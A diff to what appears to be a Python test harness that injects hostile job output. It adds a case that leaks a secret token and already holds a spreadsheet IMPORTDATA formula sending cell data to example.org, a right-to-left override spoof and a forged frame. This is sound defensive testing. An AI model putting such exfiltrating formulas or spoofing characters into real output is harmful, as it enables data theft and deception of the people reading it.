@@ -69,6 +69,7 @@ GARBAGE: dict[str, tuple[bytes, ...]] = {
         b'=IMPORTDATA("http://example.org/?"&A1)\n',
         b"ValueError: \xe2\x80\xae evil\n",
     ),
+    "J18 a secret": (f"the token is {SECRET}\n".encode(),),
     "J17 a forged frame": (b"SHEETD 00000000000000000000000000000000 2 44136fa355b3678a\n{}\n",),
 }
 
@@ -98,6 +99,8 @@ def run_job(engine: Engine, fate: Fate, is_calm: list[bool], process: Process, e
     while fate.hangs and not is_calm[0]:
         engine.sleep(30.0)
     talk(b"loss=0.5\nValueError: the end of it\n")
+    if "J18 a secret" in fate.garbage:
+        talk(GARBAGE["J18 a secret"][0])
     return end(engine, fate, process, run)
 
 
